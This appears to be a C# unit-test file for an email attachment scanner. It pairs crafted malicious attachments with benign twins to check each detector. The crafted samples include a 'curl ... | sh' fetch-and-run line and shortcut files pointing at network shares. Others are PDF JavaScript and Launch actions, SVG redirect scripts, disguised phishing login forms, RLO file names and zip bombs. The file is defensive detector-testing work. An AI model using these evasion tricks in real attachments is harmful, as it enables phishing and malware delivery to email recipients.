using System.Text;
using SentiMail.Analyzers;
using SentiMail.Attachments;
using SentiMail.Signals;
using SentiMail.Tests.Attachments;
using SentiMail.Tests.TestSupport;

namespace SentiMail.Tests.Analyzers;

public class AttachmentAnalyzerTests
{
    private const string Pdf = "application/pdf";
    private const string OctetStream = "application/octet-stream";
    private const string Zip = "application/zip";

    private static readonly Lazy<byte[]> s_bomb = new(() => TestFiles.ZerosZip("backup.bin", 50L * 1024 * 1024));

    // 42.zip-like: 16 archives of 16 entries of 16 MiB of zeros each, in one archive.
    private static readonly Lazy<byte[]> s_nestedBomb = new(() =>
    {
        var layer = ArchiveInspectorTests.ZerosArchive(16, 16 * 1024 * 1024);
        return TestFiles.Zip([.. Enumerable.Range(0, 16).Select(i => ($"part{i}.zip", layer))]);
    });

    // A login page whose tags all come after its first 1024 bytes: a 1,100-character title, then the form.
    private static readonly byte[] s_longTitleLogin = Encoding.UTF8.GetBytes(
        $"<title>{new string('x', 1100)}</title>\n<form action=\"https://docs.example.net/next.php\" method=\"post\"><input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form>\n");

    private const string LongNote = "Hello Bob, here are the holiday photos from the trip to the coast last week. The archive holds the full-size pictures, "
        + "which were too large to send one by one; 7-Zip opens it. Let me know if any of them does not open, and I will send it again. Best, Alice";

    private static readonly byte[] s_loginPage = Html("<form action=\"https://docs.example.net/next.php\" method=\"post\"><input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form>");

    // An archive of 1,000 empty entries, then one of the given name (the entries past the limit are checked by name).
    private static readonly Lazy<(byte[] Program, byte[] Text)> s_thousandThen = new(() =>
        (ThousandThen("invoice.exe"), ThousandThen("invoice.txt")));

    // An archive holding an archive over 8 MiB (stored), whose first entry is a program, or a text.
    private static readonly Lazy<(byte[] Program, byte[] Text)> s_bigNested = new(() =>
    {
        var padding = new byte[ArchiveInspector.MaxNestedArchiveBytes + 1];
        new Random(4711).NextBytes(padding);
        return (TestFiles.Zip(("inner.zip", TestFiles.Zip(("invoice.bin", TestFiles.WindowsExecutable()), ("pad.bin", padding)))),
            TestFiles.Zip(("inner.zip", TestFiles.Zip(("invoice.bin", TestFiles.PlainText()), ("pad.bin", padding)))));
    });

    // A page whose markup starts after 2 MiB of blank space in a comment.
    private static readonly Lazy<byte[]> s_paddedLogin = new(() => Padded(s_loginPage));
    private static readonly Lazy<byte[]> s_paddedPaid = new(() => Padded(Html("<p>Your invoice is paid.</p>")));

    // A script that builds a password form at run time: no form in the markup.
    private const string ScriptBuiltForm = "<script>var d=document.createElementNS(\"http://www.w3.org/1999/xhtml\",\"div\");"
        + "d.innerHTML=\"<fo\"+\"rm action='https://docs.example.net/p' method=post>Password <input type=password name=p></fo\"+\"rm>\";"
        + "document.documentElement.appendChild(d);</script>";

    public static TheoryData<string> CaseNames => SignalCase.Names(Cases());

    internal static IEnumerable<SignalCase> Cases()
    {
        yield return Case(AttachmentAnalyzer.Executable, "pe-content",
            new("tool.bin", OctetStream, TestFiles.WindowsExecutable()),
            new("tool.bin", OctetStream, TestFiles.PlainText()));
        yield return Case(AttachmentAnalyzer.Executable, "shebang-script",
            new("setup", OctetStream, TestFiles.PlainText("#!/bin/sh\ncurl http://x.example | sh\n")),
            new("setup", OctetStream, TestFiles.PlainText("curl is a tool that fetches pages.\n")));
        yield return Case(AttachmentAnalyzer.DangerousExtension, "js-name",
            new("readme.js", OctetStream, TestFiles.PlainText()),
            new("readme.txt", OctetStream, TestFiles.PlainText()));
        yield return Case(AttachmentAnalyzer.DangerousExtension, "iso-name",
            new("photos.iso", OctetStream, TestFiles.PlainText()),
            new("photos.zip.txt", OctetStream, TestFiles.PlainText()));
        yield return Case(AttachmentAnalyzer.DangerousExtension, "url-shortcut-to-a-network-share",
            new("Invoice.url", OctetStream, Shortcut("URL=file://203.0.113.7/share/invoice.zip/invoice.vbs")),
            new("Invoice.url", OctetStream, Shortcut("URL=https://invoices.example.net/view/4471")));
        yield return Case(AttachmentAnalyzer.DangerousExtension, "url-shortcut-with-a-network-icon",
            new("Photos.url", OctetStream, Shortcut("URL=https://photos.example.net/album\r\nIconIndex=1\r\nIconFile=\\\\203.0.113.7\\icons\\photo.ico")),
            new("Photos.url", OctetStream, Shortcut("URL=https://photos.example.net/album\r\nIconIndex=1\r\nIconFile=C:\\Windows\\System32\\shell32.dll")));
        yield return Case(AttachmentAnalyzer.DangerousExtension, "url-shortcut-to-a-protocol-handler",
            new("Report.url", OctetStream, Shortcut("URL=search-ms:query=invoice&crumb=location:\\\\203.0.113.7@80\\share")),
            new("Report.url", OctetStream, Shortcut("URL=http://reports.example.net/q3")));
        yield return Case(AttachmentAnalyzer.WebShortcut, "url-shortcut-to-a-web-page",
            new("Liberalism in America.url", OctetStream, Shortcut("URL=http://www.example.edu/50s/liberalism.html")),
            new("Liberalism in America.txt", OctetStream, TestFiles.PlainText("http://www.example.edu/50s/liberalism.html")));
        yield return Case(AttachmentAnalyzer.DoubleExtension, "pdf-exe",
            new("invoice.pdf.exe", OctetStream, TestFiles.PlainText()),
            new("invoice.pdf", OctetStream, TestFiles.PlainText()));
        yield return Case(AttachmentAnalyzer.DoubleExtension, "inside-zip",
            new("invoice.zip", Zip, TestFiles.Zip(("Invoice_4471.pdf.exe", TestFiles.PlainText()))),
            new("invoice.zip", Zip, TestFiles.Zip(("Invoice_4471.pdf", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.RtlOverrideName, "rlo-file-name",
            new("Facture_2026\u202Efdp.exe", OctetStream, TestFiles.PlainText()),
            new("Facture_2026.pdf", OctetStream, TestFiles.PlainText()));
        yield return Case(AttachmentAnalyzer.RtlOverrideName, "rlo-entry-name",
            new("facture.zip", Zip, TestFiles.Zip(("Facture_2026\u202Efdp.txt", TestFiles.PlainText()))),
            new("facture.zip", Zip, TestFiles.Zip(("Facture_2026.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.TypeMismatch, "pdf-declared-exe-content",
            new("document.pdf", Pdf, TestFiles.WindowsExecutable()),
            new("document.pdf", Pdf, TestFiles.Pdf()));
        yield return Case(AttachmentAnalyzer.TypeMismatch, "macro-enabled-extension",
            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: false)),
            new("order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", TestFiles.WordDocument(withMacros: false)));
        yield return Case(AttachmentAnalyzer.Macro, "ooxml-vba-project",
            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: true)),
            new("order.docm", "application/vnd.ms-word.document.macroEnabled.12", TestFiles.WordDocument(withMacros: false)));
        yield return Case(AttachmentAnalyzer.Macro, "ole-vba-project",
            new("report.doc", "application/msword", TestFiles.OleDocument("_VBA_PROJECT")),
            new("report.doc", "application/msword", TestFiles.OleDocument("WordDocument")));
        yield return Case(AttachmentAnalyzer.Macro, "ole-vba-project-in-lowercase",
            new("report.doc", "application/msword", TestFiles.OleDocument("_vba_project")),
            new("report.doc", "application/msword", TestFiles.OleDocument("worddocument")));
        yield return Case(AttachmentAnalyzer.Macro, "ole-macros-and-vba-storages-in-lowercase",
            new("report.doc", "application/msword", OleDocument("macros", "vba")),
            new("report.doc", "application/msword", OleDocument("worddocument", "data")));
        yield return Case(AttachmentAnalyzer.Macro, "ooxml-vba-project-renamed-behind-its-relationship",
            new("order.docm", OctetStream, MacroDocument("image1.bin", contentType: false, relationship: true)),
            new("order.docm", OctetStream, MacroDocument("image1.bin", contentType: false, relationship: false)));
        yield return Case(AttachmentAnalyzer.Macro, "ooxml-vba-project-renamed-by-its-content-type",
            new("order.docm", OctetStream, MacroDocument("image1.bin", contentType: true, relationship: false)),
            new("order.docm", OctetStream, MacroDocument("image1.bin", contentType: false, relationship: false)));
        yield return Case(AttachmentAnalyzer.Macro, "ooxml-vba-project-by-default-content-type",
            new("order.docm", OctetStream, Package(
                ("[Content_Types].xml", ContentTypes("<Default Extension=\"dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
                ("word/document.xml", "<w:document/>"u8.ToArray()),
                ("word/media/logo.dat", TestFiles.OleDocument("_VBA_PROJECT")))),
            new("order.docm", OctetStream, Package(
                ("[Content_Types].xml", ContentTypes("<Default Extension=\"dat\" ContentType=\"image/png\"/>")),
                ("word/document.xml", "<w:document/>"u8.ToArray()),
                ("word/media/logo.dat", TestFiles.OleDocument("_VBA_PROJECT")))));
        yield return Case(AttachmentAnalyzer.Macro, "excel-4-macro-sheet",
            new("orders.xlsm", OctetStream, Workbook("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
            new("orders.xlsm", OctetStream, Workbook("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")));
        yield return Case(AttachmentAnalyzer.Macro, "excel-4-macro-sheet-elsewhere-by-its-content-type",
            new("orders.xlsx", OctetStream, Workbook("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.intlmacrosheet+xml")),
            new("orders.xlsx", OctetStream, Workbook("xl/worksheets/sheet2.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")));
        yield return Case(AttachmentAnalyzer.TypeMismatch, "macro-enabled-content-type-under-a-plain-name",
            new("order.docx", OctetStream, TestFiles.WordDocument(withMacros: false, macroEnabled: true)),
            new("order.docx", OctetStream, TestFiles.WordDocument(withMacros: false)));
        foreach (var c in OfficeThreatCases())
        {
            yield return c;
        }

        yield return Case(AttachmentAnalyzer.PdfActiveContent, "javascript",
            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")),
            new("statement.pdf", Pdf, TestFiles.Pdf()));
        yield return Case(AttachmentAnalyzer.PdfActiveContent, "hex-escaped-name",
            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /J#61vaScript >>\nendobj\n")),
            new("statement.pdf", Pdf, TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n")));
        yield return Case(AttachmentAnalyzer.PdfActiveContent, "javascript-in-a-compressed-object-stream",
            new("statement.pdf", Pdf, TestFiles.PdfWithObjectStream("4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"u8.ToArray())),
            new("statement.pdf", Pdf, TestFiles.PdfWithObjectStream("4 0 << /S /GoTo /D [3 0 R /Fit] >>"u8.ToArray())));
        yield return Case(AttachmentAnalyzer.PdfActiveContent, "launch-in-a-raw-deflate-object-stream",
            new("statement.pdf", Pdf, TestFiles.PdfWithObjectStream("4 0 << /S /Launch /F (cmd.exe) >>"u8.ToArray(), zlib: false)),
            new("statement.pdf", Pdf, TestFiles.PdfWithObjectStream("4 0 << /S /GoTo /D [3 0 R /Fit] >>"u8.ToArray(), zlib: false)));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "password-form",
            new("Invoice_8812.html", "text/html", Html("<form action=\"https://docs.example.net/next.php\" method=\"post\"><input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form>")),
            new("Invoice_8812.html", "text/html", Html("<p>Your invoice is paid. Thank you.</p>")));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "password-form-after-a-long-title",
            new("login.html", "text/html", s_longTitleLogin),
            new("login.txt", "text/plain", s_longTitleLogin));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-whose-first-line-looks-like-a-header",
            new("invoice.html", "text/html", [.. "x-note: from: accounts team\n"u8, .. Encoding.ASCII.GetBytes(new string(' ', 1100)), .. s_loginPage]),
            new("invoice.txt", "text/plain", [.. "x-note: from: accounts team\n"u8, .. Encoding.ASCII.GetBytes(new string(' ', 1100)), .. s_loginPage]));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-behind-a-gif-signature",
            new("invoice.html", "text/html", [.. "GIF89a"u8, .. s_loginPage]),
            new("invoice.gif", "image/gif", [.. "GIF89a"u8, .. s_loginPage]));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-behind-a-pdf-marker",
            new("invoice.htm", OctetStream, [.. "<!-- %PDF-1.4 -->"u8, .. s_loginPage]),
            new("invoice.pdf", Pdf, [.. "<!-- %PDF-1.4 -->"u8, .. s_loginPage]));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-behind-an-rtf-marker",
            new("invoice.xht", OctetStream, [.. "{\\rtf1}"u8, .. s_loginPage]),
            new("invoice.rtf", "application/rtf", [.. "{\\rtf1}"u8, .. s_loginPage]));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-form-after-two-megabytes-of-padding",
            new("invoice.html", "text/html", s_paddedLogin.Value),
            new("invoice.html", "text/html", s_paddedPaid.Value));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "utf-16-login-page",
            new("invoice.html", OctetStream, [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(s_loginPage))]),
            new("invoice.html", OctetStream, [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body><p>Your invoice is paid.</p></body></html>")]));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "quoted-printable-mhtml-login-page",
            new("invoice.mht", OctetStream, Mhtml("<form action=3D\"https://docs.example.net/next.php\" method=3D\"post\"><input type=3D\"password\" name=3D\"p\"></form>")),
            new("invoice.mht", OctetStream, Mhtml("<p>Your invoice is paid. Thank you.</p>")));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "svg-with-a-login-form-in-a-foreign-object",
            new("invoice.svg", "image/svg+xml", Svg("<foreignObject width=\"800\" height=\"600\"><form xmlns=\"http://www.w3.org/1999/xhtml\" action=\"https://docs.example.net/p.php\" method=\"post\">Password <input type=\"password\" name=\"p\"/></form></foreignObject>")),
            new("invoice.svg", "image/svg+xml", Svg("<foreignObject width=\"800\" height=\"600\"><div xmlns=\"http://www.w3.org/1999/xhtml\">Quarterly figures</div></foreignObject>")));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "svg-whose-script-builds-a-password-form",
            new("invoice.svg", OctetStream, Svg(ScriptBuiltForm)),
            new("invoice.svg", OctetStream, Svg("<text x=\"10\" y=\"20\">Forgot your password? Call the help desk.</text>")));
        yield return Case(AttachmentAnalyzer.SvgScript, "script-element",
            new("invoice.svg", "image/svg+xml", Svg("<script type=\"text/javascript\"><![CDATA[ window.location.href = \"https://login.example.net/?u=bob\"; ]]></script>")),
            new("invoice.svg", "image/svg+xml", Svg("<circle cx=\"50\" cy=\"50\" r=\"40\" fill=\"red\"/><text x=\"10\" y=\"20\">The javascript: scheme runs script.</text>")));
        yield return Case(AttachmentAnalyzer.SvgScript, "external-script",
            new("chart.svg", OctetStream, Svg("<script href=\"https://cdn.example.net/a.js\"/>")),
            new("chart.svg", OctetStream, Svg("<image href=\"https://cdn.example.net/a.png\"/>")));
        yield return Case(AttachmentAnalyzer.SvgScript, "event-handler",
            new("chart.svg", "image/svg+xml", Svg("<rect width=\"10\" height=\"10\" onload=\"location='https://login.example.net/'\"/>")),
            new("chart.svg", "image/svg+xml", Svg("<rect width=\"10\" height=\"10\"/>")));
        yield return Case(AttachmentAnalyzer.SvgScript, "javascript-link",
            new("chart.svg", "image/svg+xml", Svg("<a href=\"javascript:location='https://login.example.net/'\"><text>Open</text></a>")),
            new("chart.svg", "image/svg+xml", Svg("<a href=\"https://www.example.net/\"><text>Open</text></a>")));
        yield return Case(AttachmentAnalyzer.SvgScript, "declared-svg-without-an-extension",
            new("chart", "image/svg+xml", Svg("<script>location='https://login.example.net/'</script>")),
            new("chart", "image/png", Svg("<script>location='https://login.example.net/'</script>")));
        yield return Case(AttachmentAnalyzer.HtmlAttachment, "html-page",
            new("Invoice_8812.html", "text/html", Html("<p>Your invoice is paid. Thank you.</p>")),
            new("Invoice_8812.pdf", Pdf, TestFiles.Pdf()));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "pe-entry",
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("Invoice_4471.bin", TestFiles.WindowsExecutable()))),
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("Invoice_4471.bin", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "pe-entry-in-nested-zip",
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("documents.zip", TestFiles.Zip(("Invoice_4471.bin", TestFiles.WindowsExecutable()))))),
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("documents.zip", TestFiles.Zip(("Invoice_4471.bin", TestFiles.PlainText()))))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "zip-behind-other-bytes",
            new("INV-2026-4471.zip", Zip, [.. "PK\u0007\u0008"u8, .. TestFiles.Zip(("Invoice_4471.bin", TestFiles.WindowsExecutable()))]),
            new("INV-2026-4471.zip", Zip, [.. "PK\u0007\u0008"u8, .. TestFiles.Zip(("Invoice_4471.bin", TestFiles.PlainText()))]));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "exe-name",
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("setup.exe", TestFiles.PlainText()))),
            new("INV-2026-4471.zip", Zip, TestFiles.Zip(("setup.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-in-a-gzip-stream",
            new("invoice.exe.gz", "application/gzip", TestArchives.Gzip(TestFiles.WindowsExecutable())),
            new("invoice.txt.gz", "application/gzip", TestArchives.Gzip(TestFiles.PlainText())));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-named-by-the-gzip-header",
            new("invoice.pdf.gz", "application/gzip", TestArchives.Gzip(TestFiles.PlainText(), "invoice.js")),
            new("invoice.pdf.gz", "application/gzip", TestArchives.Gzip(TestFiles.PlainText(), "invoice.pdf")));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-in-a-tar-archive",
            new("invoice.tar", "application/x-tar", TestArchives.Tar(("invoice.exe", TestFiles.WindowsExecutable()))),
            new("invoice.tar", "application/x-tar", TestArchives.Tar(("invoice.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-in-a-gzipped-tar-archive",
            new("invoice.tgz", "application/gzip", TestArchives.Gzip(TestArchives.Tar(("invoice.bin", TestFiles.WindowsExecutable())))),
            new("invoice.tgz", "application/gzip", TestArchives.Gzip(TestArchives.Tar(("invoice.bin", TestFiles.PlainText())))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-in-a-gzipped-zip",
            new("invoice.zip.gz", "application/gzip", TestArchives.Gzip(TestFiles.Zip(("invoice.bin", TestFiles.WindowsExecutable())))),
            new("invoice.zip.gz", "application/gzip", TestArchives.Gzip(TestFiles.Zip(("invoice.bin", TestFiles.PlainText())))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-named-in-a-cab",
            new("invoice.onepkg", OctetStream, TestArchives.Cab("invoice.exe")),
            new("invoice.onepkg", OctetStream, TestArchives.Cab("notes.txt")));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-named-in-a-rar",
            new("invoice.rar", "application/vnd.rar", TestArchives.Rar5(false, "invoice.exe")),
            new("invoice.rar", "application/vnd.rar", TestArchives.Rar5(false, "invoice.pdf")));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-named-in-a-rar-4",
            new("invoice.rar", "application/vnd.rar", TestArchives.Rar4("invoice.scr")),
            new("invoice.rar", "application/vnd.rar", TestArchives.Rar4("invoice.pdf")));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "unicode-path-names-a-script",
            new("invoice.zip", Zip, TestArchives.ZipWithUnicodePath("readme.txt", "invoice.js", TestFiles.PlainText("var s = 1;\n"))),
            new("invoice.zip", Zip, TestArchives.ZipWithUnicodePath("readme.txt", "readme.txt", TestFiles.PlainText("var s = 1;\n"))));
        foreach (var damage in new[] { "appended-70k", "wrong-entry-count", "comment-past-the-end", "no-central-directory" })
        {
            yield return Case(AttachmentAnalyzer.ArchiveExecutable, "zip-only-extractors-open-" + damage,
                new("invoice.zip", Zip, TestArchives.Damage(TestFiles.Zip(("invoice.bin", TestFiles.WindowsExecutable())), damage)),
                new("invoice.zip", Zip, TestArchives.Damage(TestFiles.Zip(("invoice.bin", TestFiles.PlainText())), damage)));
        }

        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-after-a-thousand-empty-entries",
            new("invoice.zip", Zip, s_thousandThen.Value.Program),
            new("invoice.zip", Zip, s_thousandThen.Value.Text));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-three-archives-deep",
            new("invoice.zip", Zip, TestFiles.Zip(("b.zip", TestFiles.Zip(("a.zip", TestFiles.Zip(("invoice.exe", TestFiles.PlainText()))))))),
            new("invoice.zip", Zip, TestFiles.Zip(("b.zip", TestFiles.Zip(("a.zip", TestFiles.Zip(("invoice.txt", TestFiles.PlainText()))))))));
        yield return Case(AttachmentAnalyzer.ArchiveExecutable, "program-in-an-archive-over-8-mib-inside-the-archive",
            new("invoice.zip", Zip, s_bigNested.Value.Program),
            new("invoice.zip", Zip, s_bigNested.Value.Text));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-in-a-zip",
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.html", s_loginPage))),
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.html", Html("<p>Your invoice is paid.</p>")))));
        yield return Case(AttachmentAnalyzer.HtmlCredentialForm, "login-page-in-a-tgz",
            new("invoice.tgz", "application/gzip", TestArchives.Gzip(TestArchives.Tar(("site/invoice.htm", s_loginPage)))),
            new("invoice.tgz", "application/gzip", TestArchives.Gzip(TestArchives.Tar(("site/invoice.htm", Html("<p>Your invoice is paid.</p>"))))));
        yield return Case(AttachmentAnalyzer.Macro, "vba-document-in-a-zip",
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.doc", TestFiles.OleDocument("_VBA_PROJECT")))),
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.doc", TestFiles.OleDocument("WordDocument")))));
        yield return Case(AttachmentAnalyzer.Macro, "macro-enabled-document-in-a-zip",
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.docm", TestFiles.WordDocument(withMacros: true)))),
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.docm", TestFiles.WordDocument(withMacros: false)))));
        yield return Case(AttachmentAnalyzer.PdfActiveContent, "script-pdf-in-a-zip",
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.pdf", TestFiles.Pdf("/OpenAction 4 0 R ", "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n")))),
            new("invoice.zip", Zip, TestFiles.Zip(("invoice.pdf", TestFiles.Pdf()))));
        yield return Case(AttachmentAnalyzer.SvgScript, "script-svg-in-a-zip",
            new("images.zip", Zip, TestFiles.Zip(("chart.svg", Svg("<script>location='https://login.example.net/'</script>")))),
            new("images.zip", Zip, TestFiles.Zip(("chart.svg", Svg("<circle r=\"4\"/>")))));
        yield return Case(AttachmentAnalyzer.ArchiveEncrypted, "encryption-flag",
            new("secret.zip", Zip, TestFiles.EncryptedZip(("notes.txt", TestFiles.PlainText()))),
            new("secret.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.ArchiveBomb, "fifty-megabytes-of-zeros",
            new("backup.zip", Zip, s_bomb.Value),
            new("backup.zip", Zip, TestFiles.ZerosZip("backup.bin", 100 * 1024)));
        yield return Case(AttachmentAnalyzer.ArchiveBomb, "bombs-inside-an-archive",
            new("backup.zip", Zip, s_nestedBomb.Value),
            new("backup.zip", Zip, TestFiles.Zip(("part1.zip", TestFiles.ZerosZip("backup.bin", 100 * 1024)))));
        yield return Case(AttachmentAnalyzer.ArchiveUnreadable, "truncated-zip",
            new("archive.zip", Zip, [.. "PK\u0003\u0004"u8, .. Encoding.ASCII.GetBytes(new string('x', 200))]),
            new("archive.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.ArchiveUnreadable, "more-entries-than-the-limit",
            new("archive.zip", Zip, TestFiles.Zip([.. Enumerable.Range(0, 1001).Select(i => ($"file{i}.txt", TestFiles.PlainText()))])),
            new("archive.zip", Zip, TestFiles.Zip([.. Enumerable.Range(0, 1000).Select(i => ($"file{i}.txt", TestFiles.PlainText()))])));
        yield return Case(AttachmentAnalyzer.ArchiveUnreadable, "rar",
            new("archive.rar", "application/vnd.rar", [.. "Rar!\u001A\u0007\u0001\u0000"u8, .. new byte[64]]),
            new("archive.zip", Zip, TestFiles.Zip(("notes.txt", TestFiles.PlainText()))));
        yield return Case(AttachmentAnalyzer.DiskImage, "iso9660",
            new("photos.img.bin", OctetStream, TestFiles.IsoImage()),
            new("photos.img.bin", OctetStream, TestFiles.IsoImage(withSignature: false)));
    }

    [Theory]
    [MemberData(nameof(CaseNames))]
    public Task AnalyzeAsync_CraftedMessageAndBenignTwin_SignalFiresOnlyOnCraftedMessage(string name) => SignalCase.AssertAsync(Cases(), name);

    [Fact]
    public async Task AnalyzeAsync_ArchiveBomb_IsNotUnpackedAndEvidenceGivesTheRatio()
    {
        Assert.True(s_bomb.Value.Length < 200 * 1024, $"The bomb should compress to about 50 KB, not {s_bomb.Value.Length} bytes.");

        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("backup.zip", Zip, s_bomb.Value)));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.ArchiveBomb.Id);
        Assert.Contains("backup.bin declares 52,428,800 bytes", Assert.Single(signal.Evidence).Value, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnalyzeAsync_ProgramInAnArchiveInAnArchive_IsAsMaliciousAsOneLevelDown()
    {
        var oneLevel = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("invoice.zip", Zip, TestFiles.Zip(("payload.exe", TestFiles.WindowsExecutable())))));
        var twoLevels = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new("invoice.zip", Zip, TestFiles.Zip(("documents.zip", TestFiles.Zip(("payload.exe", TestFiles.WindowsExecutable())))))));

        var signal = Assert.Single(twoLevels.Signals, s => s.Id == AttachmentAnalyzer.ArchiveExecutable.Id);
        Assert.Equal("documents.zip/payload.exe", Assert.Single(signal.Evidence).Value);
        Assert.Equal(oneLevel.Verdict, twoLevels.Verdict);
        Assert.Equal(oneLevel.Score, twoLevels.Score);
    }

    [Theory]
    [InlineData("login.html", OctetStream)]
    [InlineData("Invoice_8812", "text/html")]
    public async Task AnalyzeAsync_LoginPageWithItsTagsPastTheFirstKilobyte_IsAnHtmlCredentialForm(string fileName, string contentType)
    {
        var shortPage = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(fileName, contentType, Html("<form action=\"https://docs.example.net/next.php\" method=\"post\"><input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form>"))));
        var longTitle = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(fileName, contentType, s_longTitleLogin)));

        Assert.Contains(longTitle.Signals, s => s.Id == AttachmentAnalyzer.HtmlCredentialForm.Id);
        Assert.Contains(longTitle.Signals, s => s.Id == AttachmentAnalyzer.HtmlAttachment.Id);
        Assert.Equal(shortPage.Verdict, longTitle.Verdict);
    }

    [Theory]
    [InlineData("invoice.rdp", "full address:s:rdp.example.net\r\nredirectdrives:i:1\r\n")]
    [InlineData("invoice.theme", "[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.7\\s\\a.jpg\r\n")]
    [InlineData("invoice.themepack", "MSCF")]
    [InlineData("invoice.searchConnector-ms", "<searchConnectorDescription><simpleLocation><url>\\\\203.0.113.7\\s</url></simpleLocation></searchConnectorDescription>")]
    [InlineData("invoice.appinstaller", "<AppInstaller Uri=\"https://apps.example.net/a.appinstaller\"/>")]
    [InlineData("invoice.website", "[InternetShortcut]\r\nURL=https://www.example.net/\r\n")]
    [InlineData("orders.accde", "Standard ACE DB")]
    [InlineData("orders.mde", "Standard Jet DB")]
    [InlineData("orders.ade", "Standard Jet DB")]
    [InlineData("orders.adp", "Standard Jet DB")]
    [InlineData("invoice.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Invoice</p>")]
    [InlineData("invoice.mhtml", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>Invoice</p>")]
    [InlineData("sandbox.wsb", "<Configuration><LogonCommand><Command>calc</Command></LogonCommand></Configuration>")]
    [InlineData("viewer.jnlp", "<jnlp codebase=\"https://apps.example.net/\"/>")]
    [InlineData("viewer.pyw", "import os\n")]
    [InlineData("format.ps1xml", "<Types/>")]
    [InlineData("macro.xlm", "x")]
    [InlineData("notes.onepkg", "MSCF")]
    [InlineData("update.msu", "MSCF")]
    [InlineData("invoice.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c true\n")]
    public async Task AnalyzeAsync_NameThatRunsFetchesOrConnects_IsADangerousExtension(string fileName, string content)
    {
        var report = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(fileName, OctetStream, TestFiles.PlainText(content))));
        var twin = await TestEngines.Create().AnalyzeAsync(TestMessages.WithAttachment(new(Path.ChangeExtension(fileName, ".txt"), OctetStream, TestFiles.PlainText(content))));

        var signal = Assert.Single(report.Signals, s => s.Id == AttachmentAnalyzer.DangerousExtension.Id);
        Assert.Equal(AttachmentAnalyzer.DangerousExtension.DefaultWeight, signal.Weight);
